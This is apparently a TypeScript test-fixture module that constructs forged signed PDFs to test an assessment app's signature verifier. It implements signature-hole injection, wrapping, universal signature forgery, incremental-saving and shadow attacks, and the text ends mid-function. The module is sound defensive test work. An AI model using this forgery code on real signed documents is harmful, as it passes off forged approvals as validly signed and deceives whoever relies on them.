import { constants as zlibConstants, deflateRawSync } from 'node:zlib';
import type { SignatureMaker } from '../../electron/services/signing/sign-pdf';
import { builtInQuestionnaire } from '@shared/questionnaire/bank';
import { assessmentExportSchema } from '@shared/report/assessment-export';
import { pdfWithAttachment } from './pdf-tools';

/*
 * Hostile PDFs, built in code so that a reader sees how each attack works. They follow the published
 * attack classes on PDF signatures (universal signature forgery, incremental saving, signature wrapping,
 * shadow attacks) plus a few aimed at the seams of our own verifier: the unsigned /Contents hole, the
 * embedded assessment, decompression, and files that are no PDF at all.
 *
 * Structure is read with string operations. That is good enough for files this module and our signer
 * wrote, and acceptable only in test code: the verifier under test must parse for real.
 */

const latin1 = (pdf: Buffer) => pdf.toString('latin1');
const ascii = (text: string) => Buffer.from(text, 'latin1');
const pad10 = (offset: number) => String(offset).padStart(10, '0');

// ---------------------------------------------------------------------------------------------------
// The report an attacker starts from

/** The vendor name in every forged assessment. */
export const FORGED_VENDOR = 'Mallory (forged)';
/** The text every forged page shows. */
export const FORGED_TEXT = 'Recommendation: APPROVE (forged)';

/** A schema-valid assessment export, as a signed report carries it in assessment.json. */
export function assessmentJson(vendorName = 'Talkdesk'): string {
  const data = assessmentExportSchema.parse({
    format: 'assay-assessment',
    schemaVersion: 1,
    exportedAt: '2026-03-02T09:00:00.000Z',
    vendor: { name: vendorName, website: 'https://vendor.example', services: ['Cloud contact centre'] },
    assessment: {
      id: 'attack-fixture',
      questionnaireId: builtInQuestionnaire.id,
      questionnaireVersion: builtInQuestionnaire.version,
      status: 'final',
      revision: 1,
      serviceName: 'Cloud contact centre for EU customer service',
      assessor: 'Robin Sender',
      assessmentDate: '2026-03-01',
      profile: {
        dataCategories: ['personal'],
        aiAutonomy: 'none',
        criticality: 'medium',
        regulatoryScope: ['gdpr'],
        sector: 'retail',
        requiresEuResidency: false,
      },
      domainWeights: {},
      finalisedAt: '2026-03-01T10:00:00.000Z',
    },
    answers: [{ questionId: 'SEC-RBAC', answer: { status: 'answered', value: 'no' }, note: 'No role-based access control.' }],
    evidence: [],
    findings: [],
  });
  return JSON.stringify(data);
}

/** A one-page report made by pdfmake, as the app makes them, carrying `json` as assessment.json if given. */
export function reportPdf(json?: string, title = 'Vendor risk assessment: Recommendation REJECT'): Promise<Buffer> {
  return pdfWithAttachment(json, { title });
}

// ---------------------------------------------------------------------------------------------------
// Reading our own files

export interface PdfObject {
  num: number;
  /** Everything between "N 0 obj" and "endobj". */
  body: string | Buffer;
}

const refIn = (dict: string, key: string): number | undefined => {
  const match = new RegExp(`/${key}\\s+(\\d+)\\s+0\\s+R`).exec(dict);
  return match ? Number(match[1]) : undefined;
};

/** A stream object's body: its dictionary with the right /Length, then the data. */
export function stream(dict: string, data: Buffer | string): Buffer {
  const bytes = typeof data === 'string' ? ascii(data) : data;
  return Buffer.concat([ascii(`<< ${dict} /Length ${bytes.length} >>\nstream\n`), bytes, ascii('\nendstream')]);
}

/** Bytes being written, and the offset at which each object was written. */
class PdfWriter {
  private readonly parts: Buffer[] = [];
  readonly offsets = new Map<number, number>();
  at = 0;

  constructor(start: Buffer | string) {
    this.push(start);
  }

  push(part: Buffer | string): void {
    const bytes = typeof part === 'string' ? ascii(part) : part;
    this.parts.push(bytes);
    this.at += bytes.length;
  }

  object(object: PdfObject): void {
    this.offsets.set(object.num, this.at);
    this.push(`${object.num} 0 obj\n`);
    this.push(object.body);
    this.push('\nendobj\n');
  }

  bytes(): Buffer {
    return Buffer.concat(this.parts);
  }
}

/** The offset the file's last startxref names. */
export function lastStartXref(pdf: Buffer): number {
  const last = [...latin1(pdf).matchAll(/startxref\s+(\d+)/g)].at(-1);
  if (!last) throw new Error('no startxref');
  return Number(last[1]);
}

/** /Root, /Info, /Size and /Prev of the file's last trailer. */
export function lastTrailer(pdf: Buffer): { root: number; info?: number; size: number; prev?: number } {
  const text = latin1(pdf);
  const at = text.lastIndexOf('trailer');
  if (at < 0) throw new Error('no trailer');
  const trailer = text.slice(at, text.indexOf('startxref', at));
  const prev = /\/Prev\s+(\d+)/.exec(trailer);
  return {
    root: refIn(trailer, 'Root')!,
    info: refIn(trailer, 'Info'),
    size: Number(/\/Size\s+(\d+)/.exec(trailer)![1]),
    ...(prev ? { prev: Number(prev[1]) } : {}),
  };
}

/** Where the latest definition of object `num` starts. */
export function objectOffset(pdf: Buffer, num: number): number {
  const at = latin1(pdf).lastIndexOf(`\n${num} 0 obj`);
  if (at < 0) throw new Error(`no object ${num}`);
  return at + 1;
}

/** The latest definition of object `num`, between "obj" and "endobj". */
export function objectBody(pdf: Buffer, num: number): string {
  const text = latin1(pdf);
  const start = objectOffset(pdf, num) + `${num} 0 obj`.length;
  return text.slice(start, text.indexOf('endobj', start)).trim();
}

/** Page 1: its object number, dictionary, content stream and resources. */
export function firstPage(pdf: Buffer): { num: number; body: string; contents: number; resources: number } {
  const catalog = objectBody(pdf, lastTrailer(pdf).root);
  const pages = objectBody(pdf, refIn(catalog, 'Pages')!);
  const num = Number(/\/Kids\s*\[\s*(\d+)\s+0\s+R/.exec(pages)![1]);
  const body = objectBody(pdf, num);
  return { num, body, contents: refIn(body, 'Contents')!, resources: refIn(body, 'Resources')! };
}

/** The file specification named assessment.json in the catalog's /Names /EmbeddedFiles, and its embedded file stream. */
export function assessmentObjects(pdf: Buffer): { filespec: number; file: number } {
  const catalog = objectBody(pdf, lastTrailer(pdf).root);
  const names = objectBody(pdf, refIn(catalog, 'Names')!);
  const filespec = Number(/\(assessment\.json\)\s*(\d+)\s+0\s+R/.exec(names)![1]);
  const file = Number(/\/EF\s*<<\s*\/F\s+(\d+)\s+0\s+R/.exec(objectBody(pdf, filespec))![1]);
  return { filespec, file };
}

export interface SignatureLayout {
  byteRange: [number, number, number, number];
  /** Where "/ByteRange" starts and where the key after it ("/Contents") starts: room for a rewritten value. */
  byteRangeKey: number;
  contentsKey: number;
  /** The /Contents hex token: from its "<" to just after its ">". */
  contentsStart: number;
  contentsEnd: number;
  /** Hex digits of the CMS DER at the start of the token. */
  cmsHexLength: number;
}

/** The last signature of a file our signer made: its byte range and /Contents hole. */
export function lastSignatureLayout(pdf: Buffer): SignatureLayout {
  const text = latin1(pdf);
  const byteRangeKey = text.lastIndexOf('/ByteRange');
  const numbers = /\/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]/.exec(text.slice(byteRangeKey))!;
  const byteRange = numbers.slice(1, 5).map(Number) as [number, number, number, number];
  const contentsKey = text.indexOf('/Contents', byteRangeKey);
  const contentsStart = byteRange[1];
  const contentsEnd = byteRange[2];
  if (text[contentsStart] !== '<' || text[contentsEnd - 1] !== '>') throw new Error('the byte range does not frame a hex string');
  const der = Buffer.from(text.slice(contentsStart + 1, contentsStart + 13), 'hex');
  const lengthBytes = der[1]! & 0x7f;
  let length = 0;
  for (let i = 0; i < lengthBytes; i += 1) length = length * 256 + der[2 + i]!;
  return { byteRange, byteRangeKey, contentsKey, contentsStart, contentsEnd, cmsHexLength: (2 + lengthBytes + length) * 2 };
}

/** The xref table section that starts at `offset`: object number to offset, in-use entries only. */
function xrefEntriesAt(pdf: Buffer, offset: number): Map<number, number> {
  const text = latin1(pdf);
  const end = text.indexOf('trailer', offset);
  const lines = text
    .slice(offset + 'xref'.length, end)
    .trim()
    .split(/\r?\n/);
  const entries = new Map<number, number>();
  for (let i = 0; i < lines.length;) {
    const [first, count] = lines[i]!.trim().split(/\s+/).map(Number) as [number, number];
    for (let k = 0; k < count; k += 1) {
      const [at, , kind] = lines[i + 1 + k]!.trim().split(/\s+/);
      if (kind === 'n') entries.set(first + k, Number(at));
    }
    i += 1 + count;
  }
  return entries;
}

// ---------------------------------------------------------------------------------------------------
// Writing revisions

/**
 * A classic xref section over `offsets`, each offset written with ten digits (so it can be laid out first);
 * numbers in `free` get a free entry (generation 1), as a writer that deletes an object writes them.
 */
export function xrefSection(offsets: ReadonlyMap<number, number>, free: readonly number[] = []): string {
  const nums = [...new Set([...offsets.keys(), ...free])].sort((a, b) => a - b);
  let out = 'xref\n0 1\n0000000000 65535 f \n';
  for (let i = 0; i < nums.length;) {
    let j = i;
    while (j + 1 < nums.length && nums[j + 1] === nums[j]! + 1) j += 1;
    out += `${nums[i]} ${j - i + 1}\n`;
    for (let k = i; k <= j; k += 1) out += offsets.has(nums[k]!) ? `${pad10(offsets.get(nums[k]!)!)} 00000 n \n` : '0000000000 00001 f \n';
    i = j + 1;
  }
  return out;
}

function trailerText(size: number, root: number, info: number | undefined, prev: number | string | undefined, extra = ''): string {
  return `trailer\n<< /Size ${size} /Root ${root} 0 R${info === undefined ? '' : ` /Info ${info} 0 R`}${prev === undefined ? '' : ` /Prev ${prev}`}${extra ? ` ${extra}` : ''} >>\n`;
}

export interface RevisionOptions {
  /** The trailer's /Prev: the previous xref's offset (the default), "self" for this revision's own, or a fixed-width placeholder. */
  prev?: number | 'self' | string;
  /** What the final startxref names instead of this revision's xref. */
  startxref?: number;
  /** What ends the revision after startxref; "%%EOF\n" unless told. */
  eof?: string;
  /** Write only the objects and a startxref, no xref section and no trailer. */
  bodyOnly?: boolean;
  /** Objects this revision deletes (free xref entries). */
  free?: readonly number[];
  /** More trailer entries, e.g. "/XRefStm 1234". */
  trailerExtra?: string;
}

/**
 * An incremental update: `objects` appended after the file, then an xref section for them, a trailer
 * whose /Prev names the previous xref, startxref and %%EOF. This is what every PDF writer does to
 * change a signed file without breaking the signed bytes, and what most attacks below start from.
 */
export function appendRevision(pdf: Buffer, objects: readonly PdfObject[], options: RevisionOptions = {}): Buffer {
  const previous = lastTrailer(pdf);
  const prevXref = lastStartXref(pdf);
  const out = new PdfWriter(pdf);
  if (pdf[pdf.length - 1] !== 0x0a) out.push('\n');
  for (const object of objects) out.object(object);
  const xrefAt = out.at;
  if (!options.bodyOnly) {
    const size = Math.max(previous.size, ...objects.map((object) => object.num + 1));
    const prev = options.prev === 'self' ? xrefAt : (options.prev ?? prevXref);
    out.push(xrefSection(out.offsets, options.free));
    out.push(trailerText(size, previous.root, previous.info, prev, options.trailerExtra));
  }
  out.push(`startxref\n${options.startxref ?? xrefAt}\n${options.eof ?? '%%EOF\n'}`);
  return out.bytes();
}

// ---------------------------------------------------------------------------------------------------
// Forged content

/** Objects that make page 1 show FORGED_TEXT: its content stream and resources replaced, and a standard font. */
export function forgedPageObjects(pdf: Buffer, text = FORGED_TEXT): PdfObject[] {
  const page = firstPage(pdf);
  const font = lastTrailer(pdf).size;
  return [
    { num: page.contents, body: stream('', `BT /F9 18 Tf 40 780 Td (${text}) Tj ET`) },
    { num: page.resources, body: `<< /ProcSet [/PDF /Text] /Font << /F9 ${font} 0 R >> >>` },
    { num: font, body: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>' },
  ];
}

/** The assessment.json stream object redefined to carry `json` (by default, one for FORGED_VENDOR). */
export function forgedAssessmentObject(pdf: Buffer, json = assessmentJson(FORGED_VENDOR)): PdfObject {
  return {
    num: assessmentObjects(pdf).file,
    body: stream(`/Type /EmbeddedFile /Subtype /application#2Fjson /Params << /Size ${Buffer.byteLength(json)} >>`, json),
  };
}

/** An incremental update that replaces page 1's content. */
export const replacePageContent = (pdf: Buffer) => appendRevision(pdf, forgedPageObjects(pdf));

/** An incremental update that replaces the embedded assessment.json. */
export const replaceAssessment = (pdf: Buffer, json?: string) => appendRevision(pdf, [forgedAssessmentObject(pdf, json)]);

// ---------------------------------------------------------------------------------------------------
// Our own signing revision, with every part in reach

export interface AppendSignatureOptions {
  /** The signer's name in the signature dictionary. */
  name?: string;
  subFilter?: 'ETSI.CAdES.detached' | 'adbe.pkcs7.detached';
  /** Rewrites page 1's dictionary in the signing revision, after the widget is added to its /Annots. */
  pageBody?: (body: string) => string;
  /** More objects written in the signing revision. */
  extraObjects?: PdfObject[];
  /** The widget's rectangle, and the number of a Form XObject (among extraObjects) as its normal appearance. */
  widget?: { rect: [number, number, number, number]; appearance?: number };
}

const SIGNATURE_HEX = 16_384;

/**
 * Signs `pdf` in an incremental update written here, not by the app's signer: a signature field on page 1,
 * its /V signature dictionary with /ByteRange before /Contents, and the CMS `makeCms` returns. The same
 * shape as the app's signatures, but a test can put more into the revision (see the shadow attacks).
 */
export async function appendSignature(pdf: Buffer, makeCms: SignatureMaker, options: AppendSignatureOptions = {}): Promise<Buffer> {
  const { root, size } = lastTrailer(pdf);
  const page = firstPage(pdf);
  const catalog = objectBody(pdf, root);
  const [sig, widget] = [size, size + 1];
  const existingForm = refIn(catalog, 'AcroForm');
  const form = existingForm ?? size + 2;
  const extra = options.extraObjects ?? [];

  const withAnnot = /\/Annots\s*\[/.test(page.body)
    ? page.body.replace(/\/Annots\s*\[/, `/Annots [${widget} 0 R `)
    : page.body.replace(/>>\s*$/, `/Annots [${widget} 0 R]\n>>`);
  const formBody = existingForm
    ? objectBody(pdf, existingForm).replace(/\/Fields\s*\[/, `/Fields [${widget} 0 R `)
    : `<< /Fields [${widget} 0 R] /SigFlags 3 >>`;
  const placeholder = '[0 0000000000 0000000000 0000000000]';
  const sigDict =
    `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /${options.subFilter ?? 'ETSI.CAdES.detached'} /ByteRange ${placeholder}\n` +
    `/Contents <${'0'.repeat(SIGNATURE_HEX)}>\n/M (D:${new Date().toISOString().replace(/[-:T]/g, '').slice(0, 14)}Z) /Name (${options.name ?? 'Signer'}) >>`;
  const objects: PdfObject[] = [
    { num: sig, body: sigDict },
    {
      num: widget,
      body:
        `<< /Type /Annot /Subtype /Widget /FT /Sig /Rect [${(options.widget?.rect ?? [40, 120, 300, 190]).join(' ')}] /V ${sig} 0 R /T (Signature${widget}) /F 4 /P ${page.num} 0 R` +
        `${options.widget?.appearance ? ` /AP << /N ${options.widget.appearance} 0 R >>` : ''} >>`,
    },
    { num: form, body: formBody },
    { num: page.num, body: options.pageBody ? options.pageBody(withAnnot) : withAnnot },
    ...(existingForm ? [] : [{ num: root, body: catalog.replace(/>>\s*$/, `/AcroForm ${form} 0 R\n>>`) }]),
    ...extra,
  ];
  const prepared = appendRevision(pdf, objects);
  const text = latin1(prepared);
  const sigAt = text.indexOf(`\n${sig} 0 obj`, pdf.length - 1);
  const byteRangeAt = text.indexOf(placeholder, sigAt);
  const b = text.indexOf('/Contents <', sigAt) + '/Contents '.length;
  const c = text.indexOf('>', b) + 1;
  const d = prepared.length - c;
  const out = Buffer.from(prepared);
  out.write(`[0 ${b} ${c} ${d}]`.padEnd(placeholder.length, ' '), byteRangeAt, 'latin1');
  const cms = await makeCms(Buffer.concat([out.subarray(0, b), out.subarray(c)]));
  const hex = cms.toString('hex');
  if (hex.length > SIGNATURE_HEX) throw new Error('the CMS does not fit the placeholder');
  out.write(hex, b + 1, 'latin1');
  return out;
}

// ---------------------------------------------------------------------------------------------------
// 1 and 7: a larger hole

/**
 * The engine behind the signature-hole injection and signature wrapping: it keeps the two signed parts
 * byte for byte but moves the second one later, so that the unsigned hole between them grows and can hold
 * anything. The signed tail still ends with the signed "startxref N"; N pointed into that tail before and
 * now points into the grown hole, where a forged xref section waits at exactly offset N. That section
 * lists every object of the signed revision (those in the moved tail at their new offsets) plus whatever
 * the attacker adds or replaces, and its /Prev keeps the earlier revisions. A reader that follows xref
 * offsets sees the forged objects; the signed bytes are unchanged, so the CMS still verifies over them.
 *
 * `lead` is what the hole starts with at the /Contents token's offset, `close` what it ends with just
 * before the signed tail ("CCCCCCCCCC" in either is replaced by the new end of the hole). If `closeObject`
 * is given, `close` starts that object's definition and the forged xref points at it.
 */
function growHole(signed: Buffer, parts: { lead: string; objects: PdfObject[]; close: string; closeObject?: number }): Buffer {
  const layout = lastSignatureLayout(signed);
  const { contentsStart: b, contentsEnd: c } = layout;
  const startxref = lastStartXref(signed);
  const trailer = lastTrailer(signed);
  if (b + parts.lead.length >= startxref) throw new Error('the lead does not fit before the signed startxref');

  const entries = xrefEntriesAt(signed, startxref);
  const nums = new Set([...entries.keys(), ...parts.objects.map((object) => object.num), ...(parts.closeObject ? [parts.closeObject] : [])]);
  const size = Math.max(trailer.size, ...[...nums].map((num) => num + 1));
  // Everything after the xref has a length we know before the offsets: lay it out, then fill in.
  const placeholderOffsets = new Map([...nums].map((num) => [num, 0]));
  const xrefLength = xrefSection(placeholderOffsets).length + trailerText(size, trailer.root, trailer.info, trailer.prev).length;
  let at = startxref + xrefLength;
  const objectTexts: Buffer[] = [];
  const forged = new Map<number, number>();
  for (const object of parts.objects) {
    forged.set(object.num, at);
    const bytes = Buffer.concat([ascii(`${object.num} 0 obj\n`), typeof object.body === 'string' ? ascii(object.body) : object.body, ascii('\nendobj\n')]);
    objectTexts.push(bytes);
    at += bytes.length;
  }
  if (parts.closeObject) forged.set(parts.closeObject, at);
  const newEnd = at + parts.close.length;
  const delta = newEnd - c;
  const offsets = new Map<number, number>();
  for (const [num, offset] of entries) offsets.set(num, offset >= c ? offset + delta : offset);
  for (const [num, offset] of forged) offsets.set(num, offset);

  const fill = (text: string) => text.replace('CCCCCCCCCC', String(newEnd).padEnd(10, ' '));
  const hole = Buffer.concat([
    ascii(fill(parts.lead)),
    ascii(' '.repeat(startxref - b - parts.lead.length)),
    ascii(xrefSection(offsets)),
    ascii(trailerText(size, trailer.root, trailer.info, trailer.prev)),
    ...objectTexts,
    ascii(fill(parts.close)),
  ]);
  return Buffer.concat([signed.subarray(0, b), hole, signed.subarray(c)]);
}

export const holeInjectionVariants = ['duplicate-key', 'in-string'] as const;
export type HoleInjectionVariant = (typeof holeInjectionVariants)[number];

/**
 * Attack 1, signature-hole injection. The /Contents hex string is padded with zeros to reserve room for
 * the CMS, and those zeros are not signed. The attacker closes the hex string right after the CMS and
 * writes, still inside the hole, a forged "/ByteRange [0 b c' d]" whose hole is larger, then a literal
 * string that swallows a forged xref section and forged objects (page 1's content and assessment.json),
 * and an empty hex string so that the hole again ends with ">". The signed tail follows, moved (see
 * growHole). Whoever trusts the last /ByteRange in the file checks the original signed bytes and finds
 * them intact, while every reader shows the forged page and attachment. A verifier must insist that the
 * hole is exactly the dictionary's own /Contents token.
 *
 * "duplicate-key": the forged /ByteRange is a second key of the signature dictionary (readers that let
 * the last occurrence win, as poppler and qpdf do, use it). "in-string": it is text inside the literal
 * string, so the dictionary is well formed and only string scanners see it.
 */
export function signatureHoleInjection(signed: Buffer, variant: HoleInjectionVariant = 'duplicate-key'): Buffer {
  const layout = lastSignatureLayout(signed);
  const [, b, , d] = layout.byteRange;
  const cmsHex = latin1(signed.subarray(layout.contentsStart + 1, layout.contentsStart + 1 + layout.cmsHexLength));
  const forgedRange = `/ByteRange [0 ${b} CCCCCCCCCC ${d}]`;
  return growHole(signed, {
    lead: `<${cmsHex}${'0'.repeat(64)}>\n${variant === 'duplicate-key' ? `${forgedRange}\n/Padding (` : `/Padding (${forgedRange}\n`}`,
    objects: [...forgedPageObjects(signed), forgedAssessmentObject(signed)],
    close: ')\n/Padding2 <>',
  });
}

/**
 * Attack 7, signature wrapping. The signature dictionary is copied into the grown hole with a rewritten
 * "/ByteRange [0 b c' d]" and a copy of the CMS as its /Contents; the forged xref points the signature
 * object at the copy. The copy is written last in the hole and left open after its /Contents token: the
 * moved signed tail, which begins with the rest of the original dictionary ("/Reason ... >> endobj"),
 * closes it. So the hole runs from the original /Contents "<" to the copy's ">", both ends look right,
 * and the original signed bytes verify, while the hole holds forged page content and assessment.json.
 * The defence is the same: the hole must be exactly the /Contents token of the dictionary that names it.
 */
export function signatureWrapping(signed: Buffer): Buffer {
  const layout = lastSignatureLayout(signed);
  const [, b, , d] = layout.byteRange;
  const text = latin1(signed);
  const sigHeader = /(\d+) 0 obj\s*$/.exec(text.slice(0, text.lastIndexOf('<<', layout.byteRangeKey)))!;
  const sigNum = Number(sigHeader[1]);
  const dictStart = text.lastIndexOf('<<', layout.byteRangeKey);
  const copy = text.slice(dictStart, layout.contentsKey).replace(/\/ByteRange\s*\[[^\]]*\]/, `/ByteRange [0 ${b} CCCCCCCCCC ${d}]`);
  const cmsHex = text.slice(layout.contentsStart + 1, layout.contentsStart + 1 + layout.cmsHexLength);
  return growHole(signed, {
    lead: latin1(signed.subarray(layout.contentsStart, layout.contentsEnd)),
    objects: [...forgedPageObjects(signed), forgedAssessmentObject(signed)],
    close: `${sigNum} 0 obj\n${copy}/Contents <${cmsHex}>`,
    closeObject: sigNum,
  });
}

// ---------------------------------------------------------------------------------------------------
// 2: an attachment in the padding

/**
 * Attack 2, a forged attachment in the /Contents padding. The file is signed and has no attachment; the
 * attacker overwrites zeros of the padding after the CMS with an object "/Type /EmbeddedFile" that
 * carries a forged assessment, keeping the file's length and the byte range as they are. The signature
 * still verifies, since the padding is not signed. A verifier that finds attachments by scanning for
 * "/Type /EmbeddedFile" offers the forgery for import as part of a valid signed report.
 *
 * "closed-token" ends the hex string before the object (so the /Contents token no longer fills the hole);
 * "inside-token" writes the object without any "<" or ">" so the hole is still one token, just not hex.
 */
export function forgedAttachmentInPadding(signed: Buffer, variant: 'closed-token' | 'inside-token'): Buffer {
  const layout = lastSignatureLayout(signed);
  const json = assessmentJson(FORGED_VENDOR);
  const object =
    variant === 'closed-token'
      ? `>\n99 0 obj\n<< /Type /EmbeddedFile /Subtype /application#2Fjson /Length ${json.length} >>\nstream\n${json}\nendstream\nendobj\n<`
      : ` 99 0 obj /Type /EmbeddedFile /Length ${json.length} stream\n${json}\nendstream endobj `;
  if (variant === 'inside-token' && /[<>]/.test(json)) throw new Error('the forged JSON must not contain < or >');
  const at = layout.contentsStart + 1 + layout.cmsHexLength + 64;
  if (at + object.length >= layout.contentsEnd - 1) throw new Error('the forged object does not fit the padding');
  const out = Buffer.from(signed);
  out.write(object, at, 'latin1');
  return out;
}

// ---------------------------------------------------------------------------------------------------
// 5: universal signature forgery

export const byteRangeForgeries = ['missing', 'null', 'zeros', 'negative', 'reals', 'three-numbers', 'six-numbers'] as const;
export const contentsForgeries = ['missing', 'empty', 'literal-string', 'not-hex', 'after-der'] as const;
export type ByteRangeForgery = (typeof byteRangeForgeries)[number];
export type ContentsForgery = (typeof contentsForgeries)[number];

/** Overwrites [from, to) with `text` padded by spaces: the file keeps its length and every offset. */
function overwrite(pdf: Buffer, from: number, to: number, text: string | Buffer): Buffer {
  const bytes = typeof text === 'string' ? ascii(text) : text;
  if (bytes.length > to - from) throw new Error('the replacement does not fit');
  const out = Buffer.from(pdf);
  out.fill(0x20, from, to);
  bytes.copy(out, from);
  return out;
}

/**
 * Attack 5, universal signature forgery (USF): the signature dictionary is kept but the values that tie
 * the signature to the file are made useless, in the hope that a viewer which cannot evaluate them skips
 * the check and still shows the signer. A verifier must call each of these malformed, never valid or
 * unsigned. The values are rewritten in place; every offset stays.
 */
export function forgeByteRange(signed: Buffer, variant: ByteRangeForgery): Buffer {
  const layout = lastSignatureLayout(signed);
  const [, b, c, d] = layout.byteRange;
  const value: Record<ByteRangeForgery, string> = {
    missing: '',
    null: '/ByteRange null',
    zeros: '/ByteRange [0 0 0 0]',
    negative: `/ByteRange [0 ${b} ${c} -${d}]`,
    reals: `/ByteRange [0 ${b}.0 ${c}.0 ${d}.0]`,
    'three-numbers': `/ByteRange [0 ${b} ${c}]`,
    'six-numbers': `/ByteRange [0 ${b} ${c} ${d} 0 0]`,
  };
  return overwrite(signed, layout.byteRangeKey, layout.contentsKey, value[variant]);
}

/** Attack 5 on /Contents; see forgeByteRange. */
export function forgeContents(signed: Buffer, variant: ContentsForgery): Buffer {
  const layout = lastSignatureLayout(signed);
  const { contentsStart: b, contentsEnd: c, cmsHexLength } = layout;
  const cms = Buffer.from(latin1(signed.subarray(b + 1, b + 1 + cmsHexLength)), 'hex');
  switch (variant) {
    case 'missing':
      return overwrite(signed, layout.contentsKey, c, '');
    case 'empty': {
      // An empty hex string, with the byte range rewritten so that its hole is exactly that token.
      const emptied = overwrite(signed, b, c, '<>');
      return overwrite(emptied, layout.byteRangeKey, layout.contentsKey, `/ByteRange [0 ${b} ${b + 2} ${signed.length - b - 2}]`);
    }
    case 'literal-string': {
      // The same CMS as a literal string filling the same hole: "(" DER with \ ( ) escaped, NUL padding ")".
      // Line ends are escaped too: unescaped, a reader would turn CR and CR LF into LF.
      const escaped = ascii(latin1(cms).replace(/[\\()\r\n]/g, (ch) => (ch === '\r' ? '\\r' : ch === '\n' ? '\\n' : `\\${ch}`)));
      const token = Buffer.alloc(c - b, 0);
      token[0] = 0x28;
      escaped.copy(token, 1);
      token[token.length - 1] = 0x29;
      return overwrite(signed, b, c, token);
    }
    case 'not-hex': {
      const out = Buffer.from(signed);
      out.write('zz', b + 1 + cmsHexLength + 100, 'latin1');
      return out;
    }
    case 'after-der': {
      // Hex digits, but not zeros: 16 bytes of 0xff right after the DER.
      const out = Buffer.from(signed);
      out.write('ff'.repeat(16), b + 1 + cmsHexLength, 'latin1');
      return out;
    }
  }
}

// ---------------------------------------------------------------------------------------------------
// 6: incremental saving

export const incrementalSavingVariants = [
  'new-revision',
  'no-xref-signed-startxref',
  'orphan-xref-signed-startxref',
  'no-eof',
  'eof-in-stream',
  'hybrid-xref-stream',
  'signature-removed',
] as const;
export type IncrementalSavingVariant = (typeof incrementalSavingVariants)[number];

/**
 * Attack 6, incremental saving (ISA). Changing a signed file by an incremental update is legal PDF; the
 * signature stays valid for the bytes it covers, and the question is only whether the verifier says that
 * it no longer covers the document. The variants try to make the update look like nothing happened:
 *
 * - "new-revision": a plain update replacing page 1's content, with xref, trailer /Prev and %%EOF.
 * - "no-xref-signed-startxref": only the replaced objects and a copy of the signed revision's last lines
 *   ("startxref N %%EOF", N the signed xref). The file ends as the signed one did; lenient readers that
 *   rebuild a damaged xref by scanning take the later definitions.
 * - "orphan-xref-signed-startxref": a full update whose final startxref names the signed xref again.
 * - "no-eof": a full update without the %%EOF line, for verifiers that find revisions by that marker.
 * - "eof-in-stream": a full update whose new page content carries "%%EOF" lines of its own (a comment to
 *   the content stream), for verifiers that split revisions at that marker instead of following xrefs.
 * - "hybrid-xref-stream": the change listed only in a cross-reference stream named by /XRefStm (see
 *   hiddenInXRefStm), for verifiers that read only classic xref sections.
 * - "signature-removed": an update that drops the signature field from the catalog's /AcroForm and the
 *   page's /Annots and replaces the content: a verifier that lists fields of the final revision only
 *   finds no signature and calls the changed file "unsigned" instead of "modified".
 */
export function incrementalSaving(signed: Buffer, variant: IncrementalSavingVariant): Buffer {
  const objects = forgedPageObjects(signed);
  switch (variant) {
    case 'new-revision':
      return appendRevision(signed, objects);
    case 'no-xref-signed-startxref':
      return appendRevision(signed, objects, { bodyOnly: true, startxref: lastStartXref(signed) });
    case 'orphan-xref-signed-startxref':
      return appendRevision(signed, objects, { startxref: lastStartXref(signed) });
    case 'no-eof':
      return appendRevision(signed, objects, { eof: '' });
    case 'eof-in-stream': {
      const [content, ...rest] = objects;
      const data = `BT /F9 18 Tf 40 780 Td (${FORGED_TEXT}) Tj ET\n%%EOF\nstartxref\n${lastStartXref(signed)}\n%%EOF\n`;
      return appendRevision(signed, [{ num: content!.num, body: stream('', data) }, ...rest]);
    }
    case 'hybrid-xref-stream':
      return hiddenInXRefStm(signed);
    case 'signature-removed': {
      const { root } = lastTrailer(signed);
      const catalog = objectBody(signed, root).replace(/\/AcroForm\s+\d+\s+0\s+R/, '');
      const page = firstPage(signed);
      const pageBody = page.body.replace(/\/Annots\s*\[[^\]]*\]/, '');
      return appendRevision(signed, [...objects, { num: root, body: catalog }, { num: page.num, body: pageBody }]);
    }
  }
}

// ---------------------------------------------------------------------------------------------------
// 8: shadow attacks

/**
 * Prepares a report for a shadow attack before it is signed: an incremental update (by the attacker, who
 * made the document) puts hidden content into the revision the victim will sign.
 *
 * - "hide": page 1 draws FORGED_TEXT and then a white box over it; the signer sees the original page.
 * - "hide-and-replace": a second content stream with FORGED_TEXT, present but referenced by nothing.
 *
 * Returns the prepared file and the numbers of the shadow objects for the later update.
 */
export function prepareShadow(report: Buffer, variant: 'hide' | 'hide-and-replace'): { pdf: Buffer; cover: number; shadow: number } {
  const page = firstPage(report);
  const size = lastTrailer(report).size;
  const [font, shadow, cover] = [size, size + 1, size + 2];
  const resources = objectBody(report, page.resources).replace(/\/Font\s*<</, `/Font <<\n/F9 ${font} 0 R`);
  const objects: PdfObject[] = [
    { num: font, body: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>' },
    { num: shadow, body: stream('', `BT /F9 18 Tf 40 700 Td (${FORGED_TEXT}) Tj ET`) },
    { num: page.resources, body: resources },
  ];
  if (variant === 'hide') {
    objects.push({ num: cover, body: stream('', '1 1 1 rg 30 690 500 40 re f') });
    objects.push({ num: page.num, body: page.body.replace(/\/Contents\s+\d+\s+0\s+R/, `/Contents [${page.contents} 0 R ${shadow} 0 R ${cover} 0 R]`) });
  }
  return { pdf: appendRevision(report, objects), cover, shadow };
}

/**
 * Attack 8, shadow attacks (Mainka, Mladenov, Rohlmann, 2021), the update after signing. None adds a
 * signature; each changes what the signed revision shows, using what the signer already signed:
 *
 * - "hide": the white box is replaced by an empty stream, revealing the signed but hidden FORGED_TEXT.
 * - "hide-by-deletion": the white box's object is marked free instead (see revealShadowByDeletion).
 * - "hide-and-replace": page 1's /Contents is pointed at the signed but unused shadow stream; the update
 *   holds only one small page dictionary, no new content at all.
 * - "replace": the signed assessment.json object is redefined (a shadow "replace" of an object's value).
 */
export function revealShadow(
  signed: Buffer,
  variant: 'hide' | 'hide-by-deletion' | 'hide-and-replace' | 'replace',
  shadowObjects: { cover: number; shadow: number },
): Buffer {
  const page = firstPage(signed);
  switch (variant) {
    case 'hide':
      return appendRevision(signed, [{ num: shadowObjects.cover, body: stream('', '') }]);
    case 'hide-by-deletion':
